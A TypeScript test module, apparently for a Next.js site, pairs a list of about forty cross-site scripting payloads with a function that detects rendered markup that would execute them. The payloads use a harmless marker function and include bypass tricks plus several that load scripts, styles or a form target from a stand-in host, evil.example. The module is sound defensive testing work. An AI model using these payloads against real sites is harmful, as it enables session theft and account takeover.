/** Texts that somebody hopes a page will run; each holds `xss9`, the name of what would be called. */
export const payloads: readonly string[] = [
  '<script>xss9()</script>',
  '</script><script>xss9()</script>',
  '<SCRIPT SRC=//evil.example/xss9.js></SCRIPT>',
  '<img src=x onerror=xss9()>',
  '"><img src=x onerror=xss9()>',
  "'><svg onload=xss9()>",
  '<svg/onload=xss9()>',
  '<svg><script>xss9()</script></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=xss9()>',
  '<iframe src="javascript:xss9()"></iframe>',
  '<iframe srcdoc="<script>xss9()</script>"></iframe>',
  '<a href="javascript:xss9()">x</a>',
  '<a href="&#106;avascript:xss9()">x</a>',
  '[x](javascript:xss9())',
  'javascript:xss9()',
  'data:text/html,<script>xss9()</script>',
  '<details open ontoggle=xss9()>',
  '<body onload=xss9()>',
  '<input autofocus onfocus=xss9()>',
  '" autofocus onfocus="xss9()',
  "' onmouseover='xss9()",
  '` onclick=xss9() `',
  '<style>@import "//evil.example/xss9.css"</style>',
  '<link rel=stylesheet href=//evil.example/xss9>',
  '<base href="//evil.example/xss9/">',
  '<meta http-equiv="refresh" content="0;url=javascript:xss9()">',
  '<form action=//evil.example/xss9><button>x</button></form>',
  '<object data="javascript:xss9()"></object>',
  '<template><script>xss9()</script></template>',
  '<!--><script>xss9()</script>-->',
  '<!-- xss9 --!><img src=x onerror=xss9()>',
  '<noscript><p title="</noscript><img src=x onerror=xss9()>">',
  '＜script＞xss9()＜/script＞',
  '\u2028<script>xss9()</script>\u2029',
  '<scr\u0000ipt>xss9()</scr\u0000ipt>',
  '&lt;script&gt;xss9()&lt;/script&gt;',
  '{{constructor.constructor("xss9()")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what somebody may type
  '${xss9()}',
  '\\u003cscript\\u003exss9()\\u003c/script\\u003e',
  '"});xss9();({"',
  ']]><script>xss9()</script>',
]

/** A tag with its attributes, quoted values whole. */
const tags = /<[a-zA-Z/!](?:"[^"]*"|'[^']*'|[^"'>])*>/g
const scripts = /<script\b(?:"[^"]*"|'[^']*'|[^"'>])*>([\s\S]*?)<\/script\s*>/gi

/** True for the platform's own scripts: data that Next hands to the page, in which no tag can begin or end. */
const isOnlyData = (script: string) =>
  /^\s*(?:self\.__next_f|\(self\.__next_f)/.test(script) && !/<\/?[a-z!]/i.test(script)

/**
 * What a browser would run, open or load in a page because of a payload: tags that bear its mark outside quoted values,
 * attributes that would run or lead to it, and scripts that hold it.
 */
export function activeMarkup(html: string): string[] {
  const found: string[] = []
  const rest = html.replace(scripts, (whole, script: string) => {
    if (script.includes('xss9') && !isOnlyData(script)) found.push(whole)
    return ''
  })
  for (const [tag] of rest.matchAll(tags)) {
    const bare = tag.replace(/"[^"]*"|'[^']*'/g, '""')
    if (bare.includes('xss9')) found.push(tag)
    for (const [, name = '', , double, single] of tag.matchAll(/\s([^\s=>"'/]+)\s*=\s*("([^"]*)"|'([^']*)')/g)) {
      const value = double ?? single ?? ''
      const leads = /^(?:href|src|action|formaction|data|srcdoc|xlink:href|content)$/i.test(name)
      if (/^on/i.test(name) || (leads && /xss9/.test(value) && /^\s*(?:[a-z]+:|\/\/|<)/i.test(value))) found.push(tag)
    }
  }
  return found
}
